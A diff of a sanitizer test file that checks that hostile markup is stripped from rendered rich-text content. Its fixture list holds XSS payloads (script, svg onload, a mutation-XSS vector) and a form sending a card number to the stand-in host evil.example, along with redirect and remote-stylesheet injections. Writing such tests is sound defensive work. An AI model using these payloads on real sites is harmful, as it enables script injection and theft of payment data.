@@ -12,7 +12,7 @@ const HOSTILE = [
   '<script>window.hacked=1</script>',
   '<svg onload="window.hacked=1"><script>window.hacked=1</script><a href="javascript:hacked">x</a></svg>',
   '<math><mtext><table><mglyph><style><img src=x onerror="hacked"></style></mglyph></table></mtext></math>',
-  '<style>body{display:none}</style>',
+  '<style>.hacked{color:red}</style>',
   '<form action="https://evil.example"><input name="cardNumber"><button>OK</button></form>',
   '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
   '<link rel="stylesheet" href="https://evil.example/x.css">',
@@ -68,7 +68,7 @@ describe('hostile markup in content', () => {
     expect(page.status).toBe(200);
     expect(page.text).toContain('antes');
     expect(page.text).toContain('después');
-    expect(page.body).not.toMatch(/hacked|evil\.example|display:none/);
+    expect(page.body).not.toMatch(/hacked|evil\.example/);
     const articles = findAll(page.root, ({ attributes }) => /rich-text/.test(attributes.class ?? ''));
     expect(articles.length).toBeGreaterThan(0);
     expect(listHarm(articles.flatMap((article) => findAll(article, () => true)))).toEqual([]);
